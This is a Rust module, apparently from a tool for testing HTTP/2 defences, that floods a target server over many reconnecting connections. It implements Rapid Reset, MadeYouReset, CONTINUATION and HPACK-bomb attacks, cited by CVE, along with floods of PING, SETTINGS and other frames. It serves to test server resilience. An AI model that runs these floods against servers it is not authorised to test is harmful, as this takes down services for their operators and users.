//! Floods of HTTP/2 frames that are cheap to send. A connection that the peer ends is opened anew, so that a defence has to
//! hold against one who comes back.

use std::cell::RefCell;
use std::rc::Rc;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::spawn_local;
use tokio::time::{sleep, sleep_until};

use crate::Group;
use crate::closed::Counts;
use crate::frames::{self, Follower};
use crate::http1::{connect, word};

/// Before a connection that ended is opened anew.
const PAUSE: Duration = Duration::from_millis(10);
const CHUNK: usize = 32 * 1024;
/// Bytes of the field that is named over and over: next to all that the default table of 4,096 bytes takes.
const BOMB_FIELD: u16 = 4_000;
/// As many as a frame of 16 KiB has room for, beside the field.
const BOMB_REFERENCES: usize = 10_000;
const LAST_STREAM: u32 = 0x7fff_fff0;

#[derive(clap::Args)]
pub(crate) struct Options {
    /// IP:PORT=CONNECTIONS[@SOURCE]; may be repeated.
    #[arg(long = "group", required = true)]
    groups: Vec<Group>,
    #[arg(long, value_parser = crate::seconds)]
    seconds: Duration,
    kind: Kind,
}

/// What is sent over and over.
#[derive(Clone, Copy, ValueEnum)]
enum Kind {
    /// A request and its cancellation (CVE-2023-44487).
    RapidReset,
    /// A request and a frame that makes the peer reset it (CVE-2025-8671).
    MadeYouReset,
    /// One request whose fields never end (CVE-2024-27316).
    Continuation,
    Ping,
    Settings,
    /// DATA without bytes.
    EmptyData,
    WindowUpdate,
    Priority,
    /// Heads of a few bytes for each of the thousands that they stand for (CVE-2016-6581).
    HpackBomb,
}

#[derive(Default)]
struct Flood {
    counts: Counts,
    frames: RefCell<u64>,
    /// Milliseconds from the first frame of a connection to its GOAWAY.
    until_goaway: RefCell<Vec<f64>>,
}

/// Prints `{"frames": …, "counts": {"opened": …, "goaway-11": …}, "until_goaway_ms": […]}`.
pub(crate) async fn run(options: Options) -> anyhow::Result<Value> {
    let end = Instant::now() + options.seconds;
    let flood = Rc::new(Flood::default());
    for group in options.groups {
        for _ in 0..group.connections {
            let flood = Rc::clone(&flood);
            spawn_local(async move {
                while Instant::now() < end {
                    if let Err(error) = flood.connection(group, options.kind).await {
                        flood.counts.add(word(&error));
                    }
                    sleep(PAUSE).await;
                }
            });
        }
    }
    sleep_until(end.into()).await;
    let frames = *flood.frames.borrow();
    Ok(json!({
        "frames": frames,
        "counts": flood.counts.take(),
        "until_goaway_ms": flood.until_goaway.take(),
    }))
}

impl Flood {
    /// One connection until the peer has had enough. After its GOAWAY it may still be flooded until it closes.
    async fn connection(&self, group: Group, kind: Kind) -> std::io::Result<()> {
        let stream = connect(group.source, group.target).await?;
        self.counts.add("opened");
        let begun = Instant::now();
        let (mut reader, mut writer) = stream.into_split();
        let receive = async {
            let (mut follower, mut buffer, mut goaway) = (Follower::default(), vec![0; CHUNK], false);
            loop {
                let count = reader.read(&mut buffer).await?;
                if count == 0 {
                    return Err(std::io::ErrorKind::UnexpectedEof.into());
                }
                if !goaway && let Some(code) = follower.take(&buffer[..count]) {
                    goaway = true;
                    self.counts.add(format!("goaway-{code}"));
                    self.until_goaway.borrow_mut().push(begun.elapsed().as_secs_f64() * 1e3);
                }
            }
        };
        let send = async {
            let mut out = frames::greeting();
            frames::push(&mut out, frames::SETTINGS, frames::ACK, 0, &[]);
            let mut stream_id = 1;
            if matches!(kind, Kind::EmptyData) {
                frames::request(&mut out, stream_id, "/flood", false);
            }
            if matches!(kind, Kind::Continuation) {
                frames::open_request(&mut out, stream_id, "/flood");
            }
            while stream_id < LAST_STREAM {
                let mut count = 0;
                while out.len() < CHUNK {
                    count += add(&mut out, kind, &mut stream_id);
                }
                writer.write_all(&out).await?;
                *self.frames.borrow_mut() += count;
                out.clear();
            }
            Ok::<(), std::io::Error>(())
        };
        // The first error is the connection's end.
        tokio::try_join!(receive, send).map(|((), ())| ())
    }
}

/// Appends a few frames; returns how many.
fn add(out: &mut Vec<u8>, kind: Kind, stream_id: &mut u32) -> u64 {
    let id = *stream_id;
    match kind {
        Kind::RapidReset => {
            frames::request(out, id, "/flood", true);
            frames::cancel(out, id);
            *stream_id += 2;
            return 2;
        }
        Kind::MadeYouReset => {
            frames::request(out, id, "/flood", true);
            // An increment of zero is a stream error (section 6.9).
            frames::push(out, frames::WINDOW_UPDATE, 0, id, &[0; 4]);
            *stream_id += 2;
            return 2;
        }
        // One literal field without indexing, of four bytes.
        Kind::Continuation => frames::push(out, frames::CONTINUATION, 0, id, &[0x00, 0x01, b'x', 0x00]),
        Kind::Ping => frames::push(out, frames::PING, 0, 0, &[0; 8]),
        Kind::Settings => frames::push(out, frames::SETTINGS, 0, 0, &[]),
        Kind::EmptyData => frames::push(out, frames::DATA, 0, id, &[]),
        Kind::WindowUpdate => frames::push(out, frames::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Kind::Priority => frames::push(out, frames::PRIORITY, 0, id, &[0, 0, 0, 0, 16]),
        Kind::HpackBomb => {
            frames::bomb(out, id, "/flood", BOMB_FIELD, BOMB_REFERENCES);
            *stream_id += 2;
        }
    }
    1
}
